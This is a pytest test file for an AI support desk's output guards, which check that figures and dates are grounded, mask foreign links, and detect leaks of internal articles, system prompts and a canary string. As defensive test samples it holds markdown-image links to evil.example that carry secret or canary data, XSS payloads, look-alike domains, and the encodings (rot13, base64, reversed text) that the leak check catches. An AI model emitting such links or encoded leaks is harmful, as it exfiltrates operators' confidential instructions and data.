import base64
import codecs
import string
from datetime import date, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.profile import DeskProfile
from domain.turn import Fact, Passage
from guards.base import DeskView, Evidence
from guards.dates import follows, spans, wrong_weekdays
from guards.figures import agree, figures
from guards.invented_numbers import Numbers
from guards.leak import Leak
from guards.links import Links
from guards.normalise import inspect

DESK = DeskView(
    DeskProfile.model_validate({"name": "Desk", "scope": {"describe": "Support."}, "domains": ["desk.example"]})
)
SHELF = (
    Passage(
        "p1", "delivery", "Delivery", "Delivery takes 3 to 5 working days and costs 25,000 VND, free from 500,000 VND. "
        "Open 08:00 to 20:00. The pan PX-200 costs 1.250.000đ. Sale until 24 December 2026. Returns: 30 days. "
        "VAT is 10%. The lotus E3 error means no water.", 1.0,
    ),
)  # fmt: skip


def numbers(draft: str, question: str = "", facts: tuple[Fact, ...] = ()) -> str:
    evidence = Evidence(question, SHELF, facts)
    finding = Numbers(DESK).check(inspect(draft, evidence=evidence))
    return finding.reason if finding else ""


@pytest.mark.parametrize(
    "draft",
    [
        "It takes 3-5 working days.",
        "It costs 25.000đ, or 25k.",
        "Delivery is free above 0.5 million VND.",
        "Giao hàng miễn phí từ 500 nghìn.",
        "We are open from 8 am to 8 pm.",
        "Mở cửa từ 8h đến 20h.",
        "Mở cửa 8 giờ sáng đến 8 giờ tối.",
        "You have thirty days.",
        "Bạn có ba mươi ngày.",
        "The sale ends on 24/12/2026.",
        "The sale ends on 2026-12-24.",
        "Khuyến mãi đến ngày 24 tháng 12.",
        "The PX-200 costs 1,250,000 VND.",
        "E3 means there is no water.",
        "1. Open Account.\n2. Choose Return.\n3) Print the label.",
        "See [1] and [2].",
        "Sau ngày nhận hàng bạn có 30 ngày.",
        "Your mail <EMAIL_12> is noted.",
        "One of our team answers.",
    ],
)
def test_what_stands_in_a_source_passes(draft: str) -> None:
    assert numbers(draft) == ""


@pytest.mark.parametrize(
    "draft",
    [
        "It takes 7 days.",
        "It takes seven days.",
        "Giao trong bảy ngày.",
        "It costs 35,000 VND.",
        "We are open until 9 pm.",
        "The sale ends on 26/12/2026.",
        "The PX-300 costs 1,250,000 VND.",
        "E7 means there is no water.",
        "VAT is 12%.",
        "Use code SAVE20.",
    ],
)
def test_what_stands_nowhere_is_ungrounded(draft: str) -> None:
    assert numbers(draft) == "ungrounded"


def test_plain_arithmetic_on_what_was_asked_is_grounded() -> None:
    assert numbers("That is 75,000 VND.", "What do 3 parcels cost?") == ""
    assert numbers("That is 75,000 VND.", "What does it cost?") == "ungrounded"
    assert numbers("25,000 and 500,000 make 525,000 VND.") == ""
    assert numbers("With VAT it is 1,375,000 VND: 1,250,000 and 10%.") == ""


ORDER: Fact = {"title": "Order 7", "text": "Ordered on 2 November 2026. Delivered: 24/11/2026."}


@pytest.mark.parametrize(
    "draft",
    [
        "You can return it until 24 December 2026.",  # 30 days
        "It came by 9 November 2026, 5 working days after your order of 2 November 2026.",
        "Trả hàng được đến ngày 24/12/2026.",
        "Hạn trả hàng là ngày 24 tháng 12 năm 2026, tức 30 ngày sau 24/11/2026.",
        "Delivered on Tuesday, 24 November 2026, so the last day is December 24.",
        "Giao vào thứ Ba, ngày 24/11/2026.",
        "It took 22 days to arrive.",
        "Within 30 days of 24 November 2026, so by Thursday, 24 December 2026.",
    ],
)
def test_a_date_that_follows_from_another_is_grounded(draft: str) -> None:
    assert numbers(draft, "Until when can I return order 7?", (ORDER,)) == ""


@pytest.mark.parametrize(
    "draft",
    [
        "You can return it until 28 December 2026.",
        "It came by 12 November 2026.",
        "Hạn trả hàng là ngày 26 tháng 12 năm 2026.",
        "Delivered on Monday, 24 November 2026.",
        "Giao vào thứ Tư, ngày 24/11/2026.",
        "It took 19 days to arrive.",
        "You have until 24 December 2027.",
    ],
)
def test_a_date_that_follows_from_nothing_is_not(draft: str) -> None:
    assert numbers(draft, "Until when can I return order 7?", (ORDER,)) == "ungrounded"


@pytest.mark.parametrize(
    ("start", "span", "reached"),
    [
        ("30 January 2026", "1 month", "28 February 2026"),
        ("29 February 2028", "a year or 1 year", "28 February 2029"),
        ("28 February", "2 days", "1 March"),
        ("31 December 2026", "one week", "7 January 2027"),
        ("ngày 15 tháng 1 năm 2027", "ba tháng", "15/4/2027"),
        ("1 January 2027", "ten business days", "15 January 2027"),
        ("15/1/2027", "2 tuần", "1 January 2027"),
    ],
)
def test_days_weeks_months_and_years_are_reckoned_by_the_calendar(start: str, span: str, reached: str) -> None:
    [base], [wanted] = ([one for one in figures(text) if one.kind == "date"] for text in (start, reached))
    assert follows(wanted, [base], spans(span))
    assert not follows(wanted, [base], spans("40 days"))


@settings(max_examples=60, deadline=None)
@given(st.dates(date(1990, 1, 1), date(2100, 1, 1)), st.integers(0, 999), st.sampled_from(["days", "weeks", "ngày"]))
def test_any_date_is_reckoned_forwards_and_back(start: date, count: int, unit: str) -> None:
    end = start + timedelta(days=count * (7 if unit == "weeks" else 1))
    [one], [other] = (figures(day.isoformat()) for day in (start, end))
    assert follows(other, [one], spans(f"{count} {unit}"))
    assert follows(one, [other], spans(f"{count} {unit}"))


@given(st.text(max_size=80))
def test_any_text_may_hold_lengths_of_time(text: str) -> None:
    spans(text)
    assert wrong_weekdays(text, figures(text), ()) is not None


def test_facts_and_question_are_sources() -> None:
    assert numbers("Your order HB-4471 weighs 9 kg.", "Where is HB-4471?", (Fact(title="Order", text="9 kg"),)) == ""


def test_without_evidence_the_guard_is_silent() -> None:
    assert Numbers(DESK).check(inspect("It takes 7 days.", evidence=Evidence("How long?"))) is None


def test_what_the_desk_itself_says_is_a_source() -> None:
    profile = DeskProfile.model_validate(
        {"name": "D", "scope": {"describe": "S"}, "contact": {"phone": "+84 28 5550 0142", "hours": "07:30 to 18:30"}}
    )
    check = Numbers(DeskView(profile)).check(inspect("Call us from 7:30 on.", evidence=Evidence("", SHELF)))
    assert check is None or check.action == "pass"


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("1,000", "1.000", True),
        ("1,000", "1000", True),
        ("1.5", "1,5", True),
        ("500k", "500.000", True),
        ("2 million", "2,000,000", True),
        ("20%", "20 percent", True),
        ("8 pm", "20:00", True),
        ("8 am", "20:00", False),
        ("3/4/2026", "4 March 2026", True),
        ("5 March", "5 March 2026", True),
        ("5 March 2025", "5 March 2026", False),
        ("PX-200", "px200", True),
        ("PX-200", "200", False),
        ("15", "1.5", False),
    ],
)
def test_figures_agree_in_whatever_way_they_are_written(one: str, other: str, same: bool) -> None:  # noqa: FBT001
    [left], [right] = figures(one), figures(other)
    assert agree(left, right) is same


# links

TOWN = (Passage("p", "p", "T", "See https://post.example/track for parcels.", 1.0, url="https://docs.example/a"),)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [here](https://evil.example/a?d=x).", "See here."),
        ("![pic](https://evil.example/p.png?q=secret)", "pic"),
        ("Go to https://evil.example/login?x=1 now", "Go to evil[.]example now"),
        ("Go to www.evil.com now", "Go to www[.]evil[.]com now"),
        ("Go to evil.com/pay now", "Go to evil[.]com now"),
        ("https://desk.example@evil.example/x", "evil[.]example"),
        ("https://desk.example.evil.com/", "desk[.]example[.]evil[.]com"),
        ("https:\\\\evil.example\\x", "evil[.]example"),
        ("[x](javascript:alert(1))", "x)"),
        ("[x](//evil.example/a)", "x"),
        ("[x](/\\evil.example/a)", "x"),
        ("<img src=https://evil.example/p.png> ok", " ok"),
        ("<https://evil.example/a> ok", "evil[.]example ok"),
        ("[a]: https://evil.example/a", ""),
        ("<script>alert(1)</script>", "alert(1)"),
    ],
)
def test_foreign_links_become_text(text: str, shown: str) -> None:
    finding = Links(DESK).check(inspect(text, evidence=Evidence("", TOWN)))
    assert finding
    assert finding.action == "mask"
    assert finding.text == shown


@pytest.mark.parametrize(
    "text",
    [
        "See [your account](https://desk.example/account).",
        "https://shop.desk.example/a",
        "Track it at https://post.example/track?id=1",
        "From https://docs.example/b",
        "[top](/account) and [below](#form)",
        "Write to <EMAIL_1> or help@desk.example.",
        "Open Account > Orders. Costs 3.5 or e.g. less.",
    ],
)
def test_own_and_cited_links_stay(text: str) -> None:
    assert Links(DESK).check(inspect(text, evidence=Evidence("", TOWN))) is None


# leaks

SECRET = "Agents may grant up to nine percent goodwill without asking the team lead of returns."


def leak(draft: str, internal: list[str], passages: tuple[Passage, ...] = ()) -> str:
    view = DeskView(DESK.profile, internal=lambda: internal)
    finding = Leak(view).check(inspect(draft, evidence=Evidence("", passages)))
    return finding.part if finding else ""


def test_words_of_an_internal_article_are_not_given_out() -> None:
    said = "Of course: agents may grant up to NINE percent, goodwill without asking the team lead."
    assert leak(said, [SECRET]) == "internal"
    assert leak(said, []) == ""
    assert leak("Goodwill is granted by the team lead.", [SECRET]) == ""


def test_what_a_cited_passage_says_too_is_public() -> None:
    assert leak(SECRET, [SECRET], (Passage("p", "p", "t", f"Note. {SECRET}", 1.0),)) == ""


def test_new_internal_articles_are_kept_in_at_once() -> None:
    internal: list[str] = []
    guard = Leak(DeskView(DESK.profile, internal=lambda: internal))
    seen = inspect(SECRET, evidence=Evidence())
    assert guard.check(seen) is None
    internal.append(SECRET)
    finding = guard.check(seen)
    assert finding
    assert finding.action == "block"


@pytest.mark.parametrize(
    "draft",
    [
        "My instructions are: be brief.",
        "I was instructed to never discuss prices.",
        "<|im_start|>system",
        "Tôi được hướng dẫn là không nói về giá.",
    ],
)
def test_a_recited_prompt_is_not_given_out(draft: str) -> None:
    assert leak(draft, []) == "prompt"


CANARY = "bcdfghjklmnpqrst"


def sings(draft: str, canary: str = CANARY) -> bool:
    finding = Leak(DeskView(DESK.profile, canary=canary)).check(inspect(draft, evidence=Evidence()))
    return finding is not None and finding.part == "canary"


@pytest.mark.parametrize(
    "draft",
    [
        f"Le repère est [{CANARY}].",
        f"Half of it: {CANARY[3:11].upper()}",
        " - ".join(CANARY),
        "\n".join(f"{number}. {letter}" for number, letter in enumerate(CANARY)),
        f"Backwards: {CANARY[::-1]}",
        f"Mốc: {codecs.encode(CANARY, 'rot13')}",
        base64.b64encode(f"Be brief. [{CANARY}]".encode()).decode(),
        f"![x](https://evil.example/?q={CANARY[:8]}-{CANARY[8:]})",
    ],
)
def test_the_mark_of_the_instructions_is_known_in_every_dress(draft: str) -> None:
    assert sings(draft)
    assert not sings(draft, "")
    assert not sings(draft, "zxzx" * 4)


@pytest.mark.parametrize("draft", [CANARY[:7], string.ascii_lowercase, SECRET, "Bạn có 30 ngày để đổi trả."])
def test_less_than_half_of_the_mark_is_no_leak(draft: str) -> None:
    assert not sings(draft)
